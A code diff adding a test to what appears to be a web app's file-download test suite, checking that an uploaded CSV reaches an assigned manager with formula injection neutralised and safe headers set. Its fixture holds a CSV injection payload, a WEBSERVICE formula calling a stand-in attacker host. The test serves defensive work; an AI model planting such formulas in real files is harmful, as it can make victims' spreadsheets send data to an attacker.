@@ -1,9 +1,10 @@
 import { env } from "cloudflare:test";
 import { eq } from "drizzle-orm";
 import { describe, expect, it } from "vitest";
-import { files } from "../../db/schema";
+import { files, insightRequests } from "../../db/schema";
 import { readUpload } from "../../app/server/files.server";
 import { call, db, signedIn } from "./support";
+import { create, payload } from "./insight-requests-support";
 import { compoundFile, concat, docx, jpeg, openDocument, pdf, png, PNG_SIGNATURE, text, xlsx } from "../support/sample-files";
 
 const UPLOAD = "/api/file-handling/upload-files";
@@ -300,6 +301,22 @@ describe("GET /api/file-handling/get-file/{fileName}", () => {
     expect(await stored!.text()).toBe(original);
     const [row] = await rowsOf(owner.business!.id);
     expect(row.sha256).toBe(await sha256(text(original)));
+  });
+
+  it("serves the assigned manager the same inert CSV", async () => {
+    const owner = await signedIn({ withBusiness: true });
+    const uploaded = await upload(form([{ name: "links.csv", bytes: "site\n=WEBSERVICE(\"https://evil.test\")\n" }]), owner.token);
+    const fileName = ((await uploaded.json()) as { files: { fileName: string }[] }).files[0].fileName;
+    const created = await create(owner.token, payload(owner.business!.id, { files: [fileName] }));
+    const requestId = ((await created.json()) as { insightRequest: { _id: string } }).insightRequest._id;
+    const manager = await signedIn({ role: "manager" });
+    await db().update(insightRequests).set({ assignedManagerId: manager.user.id }).where(eq(insightRequests.id, requestId));
+
+    const download = await call(`/api/file-handling/get-file/${fileName}`, { cookie: manager.token });
+    expect(download.status).toBe(200);
+    expect(await download.text()).toBe(`site\n'=WEBSERVICE("https://evil.test")\n`);
+    expect(download.headers.get("Content-Disposition")).toBe(`attachment; filename="links.csv"; filename*=UTF-8''links.csv`);
+    expect(download.headers.get("X-Content-Type-Options")).toBe("nosniff");
   });
 
   it("answers another business, a missing file and a malformed name with the same 404", async () => {
